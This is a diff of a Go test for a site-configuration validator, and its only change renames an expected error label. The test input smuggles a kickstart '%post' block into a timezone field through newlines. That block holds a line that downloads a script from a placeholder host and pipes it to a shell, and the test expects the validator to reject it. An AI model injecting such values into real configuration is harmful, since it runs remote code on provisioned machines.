@@ -264,7 +264,7 @@ func TestSiteMistakes(t *testing.T) {
 			return edit(t, "base: {timezone: Europe/Paris}", `base: {timezone: "UTC\n%post\ncurl http://x/ | sh\n%end"}`)
 		},
 		want: []want{
-			{Pos: "site/site.yaml:16:20", Where: "site parameters: base.timezone", What: []string{"string value", "holds a newline (at character 4)"}, Fix: []string{"one line", "time zone"}},
+			{Pos: "site/site.yaml:16:20", Where: "site parameters: base.timezone", What: []string{"timezone value", "holds a newline (at character 4)"}, Fix: []string{"one line", "time zone"}},
 		},
 	}, {
 		name: "a carriage return in the puppet environment",
